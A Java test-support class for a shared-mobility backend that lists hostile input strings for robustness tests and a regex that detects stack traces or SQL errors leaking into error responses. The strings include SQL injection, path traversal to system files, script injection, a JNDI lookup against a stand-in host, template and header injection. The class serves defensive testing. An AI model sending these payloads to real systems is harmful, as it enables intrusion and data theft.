package com.sharedmobility.testsupport;

import java.util.List;
import java.util.regex.Pattern;

/**
 * Strings an attacker tries in ids, query parameters and JSON fields, and the traces of internals an error answer
 * to them must not show. Each service's tests send them where it takes input and expect 400 or 404, never 500.
 */
public final class HostileInput {

  /** Injection, traversal, control and oversized strings; each fits a JSON string once escaped. */
  public static final List<String> STRINGS = List.of(
      "' OR 1=1 --",
      "\"; DROP TABLE rental; --",
      "1; SELECT pg_sleep(5)",
      "../../etc/passwd",
      "..\\..\\windows\\win.ini",
      "bike-01\u0000",
      "%00",
      "<script>alert(1)</script>",
      "${jndi:ldap://evil/x}",
      "#{7*7}",
      "bike\r\nX-Injected: 1",
      "\u202Ebike-01",
      "\uD83D\uDEB2",
      "x".repeat(10_000));

  /** What an error body would show of a server's internals: stack frames, class and SQL error names. */
  private static final Pattern INTERNALS = Pattern.compile(
      "Exception|\\tat |\\bat (com|org|java|jdk)\\.|\\b(java|javax|jakarta|org\\.springframework|org\\.hibernate"
          + "|org\\.postgresql|org\\.h2|org\\.camunda|com\\.sharedmobility)\\.|SQLState|SQL state|syntax error"
          + "|\"trace\"",
      Pattern.CASE_INSENSITIVE);

  private HostileInput() {
  }

  /** The first trace of internals in a response body, or null when there is none. */
  public static String internalsIn(String body) {
    var matcher = INTERNALS.matcher(body);
    return matcher.find() ? matcher.group() : null;
  }

  /** A short label for test names: the long string would swamp the report. */
  public static String label(String input) {
    String printable = input.length() > 40 ? input.substring(0, 20) + "...(" + input.length() + " chars)" : input;
    return printable.replaceAll("\\p{Cntrl}", "?");
  }
}
